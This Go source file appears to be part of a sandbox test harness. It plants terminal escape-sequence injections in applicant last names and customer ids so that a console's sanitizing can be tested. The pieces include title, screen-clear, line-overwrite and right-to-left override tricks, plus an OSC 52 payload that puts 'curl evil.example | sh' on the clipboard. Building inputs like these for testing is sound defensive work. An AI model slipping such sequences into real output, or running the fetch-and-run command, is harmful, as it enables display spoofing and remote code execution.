package sandbox

// hostilePieces are what a malicious applicant might type into a name, or an
// integrator copy into a customer id, hoping a terminal obeys it. With
// Options.Hostile they appear in the data set so the console's sanitizing
// is tested end to end and visible in the demo.
var hostilePieces = []string{
	"\x1b]0;APPROVED BY ADMIN\x07",                   // OSC 0: sets the terminal title
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07", // OSC 52: writes "curl evil.example | sh" to the clipboard
	"\x1b[2J\x1b[H",          // CSI: clears the screen, cursor home
	"\x1b[3A\x1b[2KAPPROVED", // CSI: cursor up three lines, erase, overwrite
	"\rAPPROVED",             // carriage return: overwrites the start of the line
	"XXX\b\b\bOK ",           // backspaces: hides what came before
	"\a\a\a",                 // BEL
	"\u009b31mRED",           // C1 CSI (U+009B), the 8-bit form of ESC [
	"\u202eDEVORPPA",         // U+202E right-to-left override: reads "APPROVED"
}

// hostileWhat says what each of hostilePieces would do to a terminal that
// obeyed it, in the same order.
var hostileWhat = []string{
	"sets the terminal's title",
	"writes a command to the clipboard",
	"clears the screen",
	"moves the cursor up and overwrites a line",
	"overwrites the start of the line",
	"hides text behind backspaces",
	"rings the bell",
	"turns the text red (the 8-bit CSI)",
	"reads backwards (a right-to-left override)",
}

// HostileExample is a check that carries a hostile piece: where it sits
// (last name or customer id) and what it would do to a terminal.
type HostileExample struct {
	ID, Where, What string
}

// HostileExamples are the checks that carry each hostile piece in a last
// name, in the order of the pieces, for a person who wants to see them
// defused; none without Options.Hostile or when the data set is too small.
func (s *Server) HostileExamples() []HostileExample {
	if !s.hostile {
		return nil
	}
	var out []HostileExample
	for i := 0; i < s.n; i++ {
		piece, inCustomerID, ok := hostileFor(i)
		if !ok || inCustomerID || outcomeOf(i) != "" {
			continue
		}
		for j, p := range hostilePieces {
			if p == piece && len(out) < len(hostilePieces) {
				out = append(out, HostileExample{ID: s.CheckID(i), Where: "last name", What: hostileWhat[j]})
			}
		}
		if len(out) == len(hostilePieces) {
			break
		}
	}
	return out
}

// hostileEvery is how often a check carries a hostile piece: the checks
// whose index ends in 4 (i%10 == 4), when Options.Hostile is set.
const hostileEvery = 10

// hostileFor says which piece check i carries and where, if any. Among the
// checks i%10 == 4, with j = i/10, piece j%9 goes in the last name for
// j%18 < 9 and in the customer id otherwise, so the default 200 checks hold
// every piece in both a name and a customer id.
func hostileFor(i int) (piece string, inCustomerID, ok bool) {
	if i%hostileEvery != 4 {
		return "", false, false
	}
	j := i / hostileEvery
	return hostilePieces[j%len(hostilePieces)], j%(2*len(hostilePieces)) >= len(hostilePieces), true
}
